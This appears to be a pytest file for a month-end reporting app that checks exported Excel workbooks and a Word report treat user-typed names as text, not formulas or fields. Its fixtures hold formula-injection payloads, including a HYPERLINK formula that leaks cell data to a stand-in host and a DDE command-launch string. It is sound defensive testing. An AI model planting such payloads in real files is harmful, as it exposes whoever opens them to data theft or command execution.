"""Finding 2 (issue 12), on the month end's files: the units' scorecard workbook and the
专项报告 (.docx) write what users typed as text. Names beginning with "=", "+", "-", "@", a
tab or CR read back exactly as typed, as string cells (never a formula) and as plain runs
(never a Word field)."""

import io
import zipfile

import pytest
from docx import Document
from openpyxl import load_workbook

from monthend.publication import month_publish
from monthend.report.files import report_file
from projects.models import Project, Unit

UNIT_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PROJECT_NAMES = ["=cmd|'/c calc'!A1", "+SUM(1,2)项目", "@SUM(A1:A2)项目", "-2+3项目"]


@pytest.fixture
def hostile(month_end_year, unit):
    Unit.objects.filter(pk=unit.pk).update(name=UNIT_NAME)
    for project, name in zip(Project.objects.order_by("pk"), PROJECT_NAMES, strict=False):
        Project.objects.filter(pk=project.pk).update(name=name)
    return month_end_year


def test_the_scorecard_workbook_writes_names_as_text(client, manager, hostile):
    client.force_login(manager)
    response = client.get("/scorecard/export.xlsx?year=2025")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    kinds = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    kinds.setdefault(cell.value, set()).add(cell.data_type)
    assert kinds[UNIT_NAME] == {"s"}
    assert not [value for value, types in kinds.items() if types != {"s"}]


def test_the_report_writes_names_as_plain_text(hostile, district, manager):
    month_publish(district=district, month="2025-10", by=manager, confirm_gaps=True)
    content, _name = report_file(district=district, month="2025-10")
    document = Document(io.BytesIO(content))
    texts = [p.text for p in document.paragraphs]
    texts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    whole = "\n".join(texts)
    shown = [name for name in [UNIT_NAME, *PROJECT_NAMES] if name in whole]
    assert shown, "the report names none of the units or projects"
    xml = zipfile.ZipFile(io.BytesIO(content)).read("word/document.xml").decode()
    assert "w:fldSimple" not in xml and "w:instrText" not in xml


def string_cell_types(content: bytes) -> dict:
    book = load_workbook(io.BytesIO(content))
    kinds = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    kinds.setdefault(cell.value, set()).add(cell.data_type)
    return kinds


@pytest.mark.parametrize(
    "url",
    ["/ledger/2025-10/export.xlsx", "/stats/export.xlsx?year=2025&group_by=unit", "/projects/export.xlsx"],
)
def test_the_pages_workbooks_write_names_as_text(client, manager, hostile, url):
    """The page downloads (tests/test_export_formulas.py reads the API's)."""
    client.force_login(manager)
    response = client.get(url)
    assert response.status_code == 200, url
    kinds = string_cell_types(response.content)
    assert any(name in kinds for name in [UNIT_NAME, *PROJECT_NAMES]), url
    assert not [value for value, types in kinds.items() if types != {"s"}], url
